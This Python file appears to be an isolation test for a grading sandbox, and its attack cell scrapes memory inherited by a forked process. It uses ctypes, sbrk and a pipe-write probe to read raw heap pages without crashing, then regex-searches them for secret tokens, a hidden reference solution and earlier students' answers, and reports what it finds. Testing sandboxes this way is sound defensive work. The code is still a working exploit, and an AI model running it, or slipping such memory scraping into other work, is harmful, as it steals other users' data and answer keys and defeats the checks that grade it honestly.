"""What memory still holds from before.

A process that is forked has a copy of everything that its parent ever had in memory and did not overwrite: an earlier student's
work, the laws, the seed. Freeing an object leaves its text where it was. The attack goes through the objects that the rubbish
collector knows, and then through the raw pages around them, free or not, for anything that looks like a secret or a law.
"""
# seen: MB of memory, and nothing of anybody else

# %% attack
import ctypes
import gc
import os
import re

SECRET = re.compile(place["mark"].encode() + b"[0-9a-f]{24}|def is_the_sum_of_squ[a]res|# answer of an earlier stud[e]nt")
PAGE, DONE = 4096, []
libc = ctypes.CDLL(None, use_errno=True)
libc.sbrk.restype = ctypes.c_void_p
libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]


def readable(reader, writer, page):
    """The page, or nothing where there is none: the kernel looks for us, and does not end us."""
    return os.read(reader, PAGE) if libc.write(writer, page, PAGE) == PAGE else b""


def mischief():
    if DONE:
        return
    DONE.append(b"# answer of an earlier student")
    reader, writer = os.pipe()
    top = libc.sbrk(0)
    around = {address >> 20 for address in map(id, gc.get_objects())} | set(range((top >> 20) - 64, (top >> 20) + 1))
    found, seen = set(), 0
    for megabyte in sorted(around)[:400]:
        text = b"".join(readable(reader, writer, megabyte << 20 | place) for place in range(0, 1 << 20, PAGE))
        seen += len(text)
        found |= set(SECRET.findall(text))
    found -= set(DONE)
    os.close(reader), os.close(writer)
    for secret in found:
        escaped(f"memory still holds {secret.decode()}")
        print(secret.decode())
    print(f"{seen >> 20} MB of memory, and nothing of anybody else")
